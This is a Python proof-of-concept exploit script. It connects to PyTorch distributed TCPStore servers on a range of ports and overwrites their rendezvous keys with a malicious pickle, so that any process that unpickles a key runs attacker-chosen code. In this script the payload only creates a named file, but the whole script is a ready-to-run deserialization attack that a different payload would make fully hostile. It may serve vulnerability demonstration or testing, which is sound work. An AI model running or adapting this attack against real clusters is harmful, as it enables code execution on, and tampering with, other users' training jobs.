"""The attack of old: a stranger finds the store of a run and plants what torch unpickles.

    python plant_pickle.py USER FILE HOST PORT …

As user number USER, try every port; whoever unpickles what was planted creates FILE.
"""

import base64
import os
import pickle
import sys
from datetime import timedelta

from torch.distributed import TCPStore

user, file, host, *ports = sys.argv[1:]


class Planted:
    """Creates the file where it is unpickled."""

    def __reduce__(self):
        return open, (file, "w")


os.setuid(int(user))
for port in ports:
    try:
        store = TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=5))
        keys = [key for key in store.list_keys() if key.startswith("torch.rendezvous.")]
        for key in keys:
            store.set(key, base64.b64encode(pickle.dumps(Planted())))
        print(f"port {port}: planted {len(keys)}")
    except RuntimeError as error:
        print(f"port {port}: {str(error).splitlines()[0]}")
